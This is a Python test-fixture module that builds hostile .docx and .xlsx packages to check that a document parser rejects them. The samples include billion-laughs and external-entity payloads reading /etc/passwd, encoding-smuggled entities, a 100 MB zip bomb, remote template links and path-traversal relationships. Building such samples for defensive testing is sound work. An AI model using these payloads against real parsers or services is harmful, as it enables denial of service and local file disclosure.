"""Word and Excel packages that attack: entities, bombs, what they refer to, what they hide."""

from __future__ import annotations

import zipfile
from collections.abc import Mapping
from pathlib import Path

from hostile_kind import OK
from hostile_kind import STOPPED
from hostile_kind import Kind

SAID = "营业收入 1,234,567.89 元"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/octet-stream"/>'
    f'<Override PartName="/word/document.xml" ContentType="{MAIN}"/></Types>'
)
ROOT = f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>'
HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
BILLION = (
    '<!DOCTYPE d [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghij", strict=True))
    + "]>"
)


def body(inner: str, head: str = HEAD) -> str:
    return f'{head}<w:document xmlns:w="{W}"><w:body>{inner}</w:body></w:document>'


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word(path: Path, document: str | bytes, more: Mapping[str, str | bytes] | None = None) -> None:
    """A Word file with this main part and these others."""
    parts = {"[Content_Types].xml": TYPES, "_rels/.rels": ROOT, "word/document.xml": document, **(more or {})}
    with zipfile.ZipFile(path, "w") as package:
        for name, part in parts.items():
            package.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)


def billion_laughs(path: Path) -> None:
    word(path, body(paragraph("&j;"), HEAD + BILLION))


def external_entity(path: Path) -> None:
    word(path, body(paragraph("营业收入 &x;"), HEAD + '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'))


def entity_in_utf16(path: Path) -> None:
    head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x "1">]>'
    word(path, body(paragraph("营业收入 &x;"), head).encode("utf-16"))


def entity_in_ebcdic(path: Path) -> None:
    """An encoding that XML libraries know and a look at the bytes does not."""
    head = '<?xml version="1.0" encoding="cp037"?><!DOCTYPE d [<!ENTITY x "1">]>'
    word(path, body(paragraph("Revenue &x;"), head).encode("cp037"))


def entity_in_utf7(path: Path) -> None:
    head = b'<?xml version="1.0" encoding="UTF-7"?>' + '<!DOCTYPE d [<!ENTITY x "1">]>'.encode("utf-7").replace(b"<", b"+ADw-")
    word(path, head + body(paragraph("Revenue 1"), "").encode("ascii"))


def entity_in_another_ending(path: Path) -> None:
    """The main part is not called .xml."""
    types = TYPES.replace("/word/document.xml", "/word/document.bin")
    relations = ROOT.replace("document.xml", "document.bin")
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": relations,
        "word/document.bin": body(paragraph("营业收入 &x;"), HEAD + '<!DOCTYPE d [<!ENTITY x "1">]>'),
    }
    with zipfile.ZipFile(path, "w") as package:
        for name, part in parts.items():
            package.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)


def word_bomb(path: Path) -> None:
    """A document that unfolds to 100 MB of spaces."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(zipfile.ZipInfo("[Content_Types].xml"), TYPES)
        package.writestr(zipfile.ZipInfo("_rels/.rels"), ROOT)
        with package.open("word/document.xml", "w") as part:
            part.write(f'{HEAD}<w:document xmlns:w="{W}"><w:body>'.encode())
            for _ in range(100):
                part.write(b" " * (1 << 20))
            part.write(b"</w:body></w:document>")


def deep_elements(path: Path) -> None:
    """150,000 elements within each other."""
    word(path, body("<w:sdt><w:sdtContent>" * 75_000 + paragraph(SAID) + "</w:sdtContent></w:sdt>" * 75_000))


def nested_tables(path: Path) -> None:
    """200 tables within each other, below the depth at which XML libraries stop."""
    table, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    word(path, body(paragraph(SAID) + table * 60 + paragraph("最里") + end * 60))


def macro(path: Path) -> None:
    word(path, body(paragraph(SAID)), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 20})


def outside_template(path: Path) -> None:
    relation = (
        f'<Relationship Id="r9" Type="{OFFICE_RELATIONS}/attachedTemplate" Target="http://198.51.100.7/t.dotm" TargetMode="External"/>'
    )
    word(path, body(paragraph(SAID)), {"word/_rels/settings.xml.rels": f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'})


def outside_picture(path: Path) -> None:
    relation = f"<Relationship Id='r9' Type='{OFFICE_RELATIONS}/image' Target='file://198.51.100.7/a.png' TargetMode='External'/>"
    word(path, body(paragraph(SAID)), {"word/_rels/document.xml.rels": f"<Relationships xmlns='{RELATIONS}'>{relation}</Relationships>"})


def no_main_part(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(zipfile.ZipInfo("[Content_Types].xml"), TYPES)
        package.writestr(zipfile.ZipInfo("_rels/.rels"), ROOT)


def main_part_outside(path: Path) -> None:
    """The main part is said to lie above the package."""
    with zipfile.ZipFile(path, "w") as package:
        package.writestr(zipfile.ZipInfo("[Content_Types].xml"), TYPES)
        package.writestr(zipfile.ZipInfo("_rels/.rels"), ROOT.replace("word/document.xml", "../../../etc/passwd"))


def million_paragraphs(path: Path) -> None:
    word(path, body("".join(paragraph(str(n * n % 97)) for n in range(1_000_000))))


def million_cells(path: Path) -> None:
    cells = (f"<w:tc>{paragraph(str(n * n % 97))}</w:tc>" for n in range(1_000_000))
    word(
        path,
        body(
            "<w:tbl><w:tr>"
            + "".join(cells).replace("<w:t>96</w:t></w:r></w:p></w:tc>", "<w:t>96</w:t></w:r></w:p></w:tc></w:tr><w:tr>")
            + "</w:tr></w:tbl>"
        ),
    )


def huge_span(path: Path) -> None:
    """One cell said to cover two thousand million columns."""
    cell = '<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>' + paragraph(SAID) + "</w:tc>"
    word(path, body(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>"))


def main_part_twice(path: Path) -> None:
    """Two parts of one name: which one counts depends on the reader."""
    with zipfile.ZipFile(path, "w") as package:
        for name, part in (("[Content_Types].xml", TYPES), ("_rels/.rels", ROOT), ("word/document.xml", body(paragraph("营业收入 1 元")))):
            package.writestr(zipfile.ZipInfo(name), part)
        twin = zipfile.ZipInfo("word/document.xmm")
        package.writestr(twin, body(paragraph("营业收入 9 元")))
    path.write_bytes(path.read_bytes().replace(b"document.xmm", b"document.xml"))


def encrypted_office(path: Path) -> None:
    """What Office makes of a document with a password: no package but an OLE file."""
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(2000))


def truncated_word(path: Path) -> None:
    word(path, body(paragraph(SAID) * 500))
    whole = path.read_bytes()
    path.write_bytes(whole[: len(whole) // 2])


def not_xml(path: Path) -> None:
    word(path, "{\\rtf1 营业收入}")


def overlapped_word(path: Path) -> None:
    """Two entries of the package share their bytes."""
    word(path, body(paragraph(SAID)), {"word/a.xml": body("")})
    whole = bytearray(path.read_bytes())
    last = whole.rindex(b"PK\x01\x02")
    whole[last + 42 : last + 46] = (0).to_bytes(4, "little")
    path.write_bytes(bytes(whole))


SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def workbook(path: Path, sheet: str) -> None:
    """A workbook of one sheet with this main content."""
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types,
        "_rels/.rels": ROOT.replace("word/document.xml", "xl/workbook.xml"),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE_RELATIONS}"><sheets><sheet name="a" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": ROOT.replace(
            "officeDocument/2006/relationships/officeDocument", "officeDocument/2006/relationships/worksheet"
        ).replace("word/document.xml", "worksheets/sheet1.xml"),
        "xl/worksheets/sheet1.xml": sheet,
    }
    with zipfile.ZipFile(path, "w") as package:
        for name, part in parts.items():
            package.writestr(zipfile.ZipInfo(name), part, zipfile.ZIP_DEFLATED)


def cell(place: str, text: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{text}</t></is></c>'


def sheet(rows: str, head: str = "") -> str:
    return f'{HEAD}{head}<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData></worksheet>'


def far_cell(path: Path) -> None:
    workbook(path, sheet(f'<row r="1048576">{cell("XFD1048576", "1")}</row>'))


def sheet_with_entities(path: Path) -> None:
    workbook(path, sheet(f'<row r="1">{cell("A1", "&j;")}</row>', BILLION))


SHEETS = (OK, "unsupported_format", "too_many_cells", "empty", "sparse_sheet")

OFFICE = (
    Kind(billion_laughs, ".docx", ("dtd",)),
    Kind(external_entity, ".docx", ("dtd",)),
    Kind(entity_in_utf16, ".docx", ("dtd",)),
    Kind(entity_in_ebcdic, ".docx", ("dtd", "damaged")),
    Kind(entity_in_utf7, ".docx", ("dtd", "damaged")),
    Kind(entity_in_another_ending, ".docx", ("dtd", "damaged")),
    Kind(word_bomb, ".docx", ("archive_bomb",)),
    Kind(deep_elements, ".docx", ("damaged", "archive_bomb", *STOPPED)),
    Kind(nested_tables, ".docx", (OK, "nested_too_deep"), must=(SAID,)),
    Kind(macro, ".docx", ("macro",), must=(SAID,)),
    Kind(outside_template, ".docx", ("external",), must=(SAID,)),
    Kind(outside_picture, ".docx", ("external",), must=(SAID,)),
    Kind(no_main_part, ".docx", ("damaged",)),
    Kind(main_part_outside, ".docx", ("damaged",)),
    Kind(million_paragraphs, ".docx", (OK, "text_cut", "damaged", *STOPPED)),
    Kind(million_cells, ".docx", (OK, "text_cut", "damaged", *STOPPED)),
    Kind(huge_span, ".docx", (OK, "damaged"), must=(SAID,)),
    Kind(main_part_twice, ".docx", ("ambiguous",)),
    Kind(encrypted_office, ".docx", ("encrypted",)),
    Kind(truncated_word, ".docx", ("damaged",)),
    Kind(not_xml, ".docx", ("damaged",)),
    Kind(overlapped_word, ".docx", ("overlapping",)),
    Kind(far_cell, ".xlsx", SHEETS),
    Kind(sheet_with_entities, ".xlsx", ("dtd",)),
)
